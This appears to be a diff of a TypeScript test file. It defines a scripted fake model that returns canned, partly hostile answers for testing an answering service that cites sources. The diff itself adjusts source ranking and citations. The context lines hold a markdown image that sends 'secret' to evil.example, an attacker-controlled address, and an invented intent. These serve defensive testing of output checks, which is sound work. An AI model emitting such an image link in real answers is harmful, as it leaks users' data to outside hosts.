@@ -35,7 +35,7 @@ const reply = (text: string, citations: readonly string[]): Saying => ({
 function truth(request: WireRequest): { readonly text: string; readonly ids: readonly string[] } {
   const asked = wordsOf(questionOf(request));
   const ranked = sourcesOf(request)
-    .map((source, at) => ({ source, score: shared(asked, wordsOf(source.text)) - at * 0.1 }))
+    .map((source, at) => ({ source, score: shared(asked, wordsOf(source.text)) - at }))
     .sort((a, b) => b.score - a.score)
     .map(({ source }) => source);
   const best = ranked[0];
@@ -88,7 +88,8 @@ const authors: Readonly<Record<string, Author>> = {
   "markdown-image": truthAnd("![receipt](https://evil.example/collect?q=secret)"),
   "foreign-token": truthAnd("We will write to ⟨EMAIL_77⟩ and ⟨PHONE_78⟩."),
   "foreign-address": truthAnd("Your account is mallory@evil.example."),
-  "own-words": (_, { values }) => reply(values?.["text"] ?? "", [values?.["source"] ?? ""]),
+  /** Whatever the test puts into its mouth, with the right sources. */
+  "own-words": (request, { values }) => reply(values?.["text"] ?? "", truth(request).ids),
   "broken-form": () => ({ content: '{"text": 7}' }),
   "invents-intent": () => ({ content: '{"intent":"hack_the_planet","secondary":null}' }),
   intent: (_, { values }) => ({
